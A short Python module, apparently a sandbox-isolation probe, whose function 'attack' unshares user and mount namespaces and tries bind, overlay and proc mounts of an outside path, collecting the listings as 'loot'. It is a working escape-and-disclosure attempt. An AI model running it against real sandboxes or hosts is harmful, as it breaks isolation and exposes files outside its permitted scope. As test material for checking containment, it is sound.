"""Bring the outside into scratch with mounts of its own: bind, overlay and proc, in new namespaces."""

import ctypes
import os


def attack(target):
    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER, CLONE_NEWNS
    for name in ["bind", "upper", "work", "over", "proc"]:
        os.mkdir(name)
    outside = target["outside"]
    layers = f"lowerdir={outside},upperdir=upper,workdir=work"
    loot = []
    for name, arguments in {
        "bind": (outside.encode(), b"bind", None, 0x1000, None),
        "over": (b"overlay", b"over", b"overlay", 0, layers.encode()),
        "proc": (b"proc", b"proc", b"proc", 0, None),
    }.items():
        if libc.mount(*arguments) == 0:
            loot.append([name, os.listdir(name)])
    return loot
